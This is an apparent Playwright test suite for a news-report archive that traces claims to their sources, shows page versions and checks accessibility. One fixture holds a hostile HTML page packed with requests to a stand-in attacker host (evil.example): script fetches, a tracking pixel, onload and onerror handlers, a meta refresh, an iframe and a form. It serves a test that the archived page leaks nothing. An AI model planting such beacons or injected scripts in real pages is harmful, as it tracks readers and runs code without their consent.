"""Stories of somebody who reads a report and follows its claims back."""

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import FrameLocator, Page, Request, expect

from dateline import samples
from dateline.desk import Desk
from e2e.serving import PHONE, Workbench

OFFICIALS = "Two U.S. officials"
HOSTILE = """<html><head><title>Town taken</title><link rel="canonical" href="https://wire.example/hostile">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><link rel="stylesheet" href="https://evil.example/style.css">
<style>@import "https://evil.example/import.css"; body { background: url(https://evil.example/background.png) }</style>
<script src="https://evil.example/script.js"></script><script>document.title = "taken over"; fetch("https://evil.example/fetch")</script></head>
<body onload="location = 'https://evil.example/onload'"><article><h1>Town taken</h1>
<p>Rebels said on Sunday that they had taken the town of Saraqib from government troops.
<a href="https://evil.example/link" ping="https://evil.example/ping">More</a></p>
<p>At least 40 people were killed in the shelling, SANA said, citing a military source in the town.</p>
<img src="https://evil.example/pixel.gif" onerror="fetch('https://evil.example/onerror')" alt="smoke"><iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/object"></object><form action="https://evil.example/form"><button autofocus>Send</button></form>
<svg><image href="https://evil.example/svg.png"/><script>fetch("https://evil.example/svg")</script></svg></article></body></html>"""


@pytest.fixture
def hostile(workbench: Workbench, tmp_path: Path) -> str:
    """A report whose page would like to know who reads it; its id."""
    path = tmp_path / "hostile.html"
    path.write_text(HOSTILE, encoding="utf-8")
    with Desk(workbench.record) as desk:
        return next(added.report.id for added in desk.add(path) if hasattr(added, "report"))


@pytest.fixture
def corrected(workbench: Workbench, tmp_path: Path) -> str:
    """A page of the sample record as it was fetched again later, with another toll; the id of that version."""
    first = (samples.folder() / "convoy-2016-orontes.html").read_text(encoding="utf-8")
    path = tmp_path / "later.html"
    path.write_text(first.replace("counted 14 dead", "counted at least 18 dead"), encoding="utf-8")
    with Desk(workbench.record) as desk:
        return next(added.report.id for added in desk.add(path) if hasattr(added, "report"))


def painted(page: Page, look: str) -> list[str]:
    """The words that are painted so."""
    script = "look => [...(CSS.highlights.get(look) ?? [])].map((range) => range.toString())"
    found: list[str] = page.evaluate(script, look)
    return found


def archived(page: Page) -> FrameLocator:
    return page.frame_locator("iframe[title='The page as archived']")


def test_a_reader_follows_a_claim_back_to_who_said_it_first(page: Page) -> None:
    """I choose a claim and see each hand it passed through, and the words of each in the text."""
    page.goto("/reports")
    page.get_by_role("link", name="U.N. halts Syria aid").click()
    page.get_by_text("it was struck").first.wait_for()
    note = page.locator("[data-claim]").filter(has_text="it [United States]").first
    note.get_by_role("button").first.click()
    hands = page.get_by_role("list", name="On whose word").get_by_role("listitem")
    expect(hands).to_have_count(3)
    expect(hands.nth(0)).to_contain_text("the United States")
    expect(hands.nth(1)).to_contain_text(OFFICIALS)
    expect(hands.nth(1)).to_contain_text("unnamed person")
    expect(hands.nth(2)).to_contain_text("Northern Wire")
    assert painted(page, "lit-hand") == ["the United States", OFFICIALS]
    assert painted(page, "lit-deed") == ["it was struck"]
    hands.nth(1).get_by_role("button").click()
    assert painted(page, "looked-at") == [OFFICIALS]
    assert "claim=" in page.url
    page.reload()
    expect(hands).to_have_count(3)


def test_a_reader_goes_from_claim_to_claim_by_keyboard(page: Page) -> None:
    """I press j and k, and Escape when I am done."""
    page.goto("/reports/convoy-2016")
    page.locator("[data-claim]").first.wait_for()
    chosen = page.locator("[data-claim]").filter(has=page.locator("[aria-expanded=true]"))
    page.keyboard.press("j")
    expect(chosen).to_have_count(1)
    first = chosen.get_attribute("data-claim")
    page.keyboard.press("j")
    expect(page).not_to_have_url(f"claim={first}")
    page.keyboard.press("k")
    expect(chosen).to_have_attribute("data-claim", first or "")
    page.keyboard.press("Escape")
    expect(chosen).to_have_count(0)


def test_a_click_on_words_chooses_the_claim_that_stands_on_them(page: Page) -> None:
    """I click on words in the text and their claim opens beside them."""
    page.goto("/reports/convoy-2016")
    page.locator("li.placed").first.wait_for()
    spot = page.evaluate(
        """() => { const leaf = [...document.querySelectorAll('[data-at]')].find((one) => one.textContent.includes('it was struck'));
        const range = new Range(); const at = leaf.textContent.indexOf('it was struck') + 5;
        range.setStart(leaf.firstChild, at); range.setEnd(leaf.firstChild, at + 1); const box = range.getBoundingClientRect();
        return [box.x + box.width / 2, box.y + box.height / 2]; }"""
    )
    page.mouse.click(*spot)
    expect(page.locator("[data-claim] [aria-expanded=true]")).to_contain_text("it [United States]")


def test_a_page_that_would_tell_its_maker_is_opened_and_tells_nobody(page: Page, hostile: str, workbench: Workbench) -> None:
    """I look at a page as archived, and nobody learns of it."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(_noted(request)))
    page.goto(f"/reports/{hostile}?beside=page")
    expect(archived(page).get_by_text("taken the town of Saraqib")).to_be_visible()
    archived(page).get_by_text("More").click()
    page.wait_for_timeout(500)
    expect(archived(page).get_by_text("taken the town of Saraqib")).to_be_visible()
    assert [address for address in asked if not address.startswith(workbench.origin)] == []
    assert len([address for address in asked if "/page?" in address]) == 1
    frame = next(one for one in page.frames if "/captures/" in one.url)
    assert frame.title() == "Town taken"
    # Opened by itself, the page can do no more.
    page.goto(frame.url)
    page.wait_for_timeout(300)
    assert [address for address in asked if not address.startswith(workbench.origin)] == []


def _noted(request: Request) -> str:
    return request.url


def test_the_claims_are_found_again_on_the_page_as_archived(page: Page) -> None:
    """I see on the archived page itself where each claim stands."""
    page.goto("/reports/5f490152422f7d12?beside=page")
    expect(page.get_by_role("status").filter(has_text="24 of 24 claims found on the page")).to_be_visible()
    page.keyboard.press("j")
    frame = next(one for one in page.frames if "/captures/" in one.url)
    lit = "() => [...CSS.highlights].filter(([look]) => look.startsWith('lit-')).flatMap(([, ranges]) => [...ranges].map(String))"
    assert "the convoy burned" in " ".join(frame.evaluate(lit))


def test_a_report_without_a_page_says_so(page: Page, workbench: Workbench) -> None:
    """I am told when only the text was handed in."""
    from dataclasses import replace

    with Desk(workbench.record) as desk:
        reading = next(desk.readings())
        report = replace(reading.report, id="text-only", capture=None, url=None)
        desk._store.keep(report, replace(reading, report=report), at=desk.report(reading.report.id).listing.captured)
    page.goto("/reports/text-only?beside=page")
    expect(page.get_by_text("the record has no page of it")).to_be_visible()


def test_an_editor_sees_what_changed_between_two_versions(page: Page, corrected: str, axe: Callable[..., object]) -> None:
    """I see which claim of a page changed without a word, and which words."""
    page.goto(f"/reports/{corrected}")
    page.get_by_role("button", name="Versions (2)").click()
    changed = page.get_by_label("What changed").get_by_role("listitem")
    expect(changed).to_have_count(1)
    expect(changed).to_contain_text("changed casualties: killed, at least 18")
    expect(changed.locator("del").first).to_have_text("casualties: killed, 14")
    expect(page.locator(".words ins")).to_contain_text("at least 18")
    expect(page.locator(".words del")).to_contain_text("14")
    axe(page)


def test_a_browser_that_cannot_paint_marks_the_text_all_the_same(open_page: Callable[..., Page]) -> None:
    """I read in an older browser, and see the marks."""
    page = open_page()
    page.add_init_script("delete CSS.highlights; delete window.Highlight")
    page.goto("/reports/convoy-2016")
    page.locator("[data-claim]").first.wait_for()
    page.keyboard.press("j")
    expect(page.locator(".look-lit-deed").first).to_be_visible()
    expect(page.locator(".look-place").first).to_be_visible()
    assert page.locator("article.text").inner_text().count("was no air strike at all") == 1


def test_a_reader_asks_for_words_and_finds_the_report(page: Page, axe: Callable[..., object]) -> None:
    """I look for a report by words in it."""
    page.goto("/reports")
    expect(page.locator("main").get_by_role("status")).to_have_text("17 reports")
    page.get_by_role("searchbox").fill("Shaykhun toll ris")
    expect(page.locator("main").get_by_role("status")).to_have_text("1 report")
    expect(page.get_by_role("link", name="death toll rises to 86")).to_be_visible()
    assert "q=Shaykhun" in page.url
    axe(page)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", [(1440, 900), PHONE])
def test_the_reader_has_no_barrier(open_page: Callable[..., Page], axe: Callable[..., object], scheme: str, size: tuple[int, int]) -> None:
    """I read with a screen reader, at a desk and on a phone, by day and by night."""
    page = open_page(size=size, scheme=scheme)
    page.goto("/reports/convoy-2016")
    page.locator("[data-claim]").first.wait_for()
    page.keyboard.press("j")
    page.locator("[aria-expanded=true]").first.wait_for()
    axe(page)
    page.get_by_role("button", name="Page as archived").click()
    page.locator("iframe").wait_for()
    axe(page, out=["iframe"])
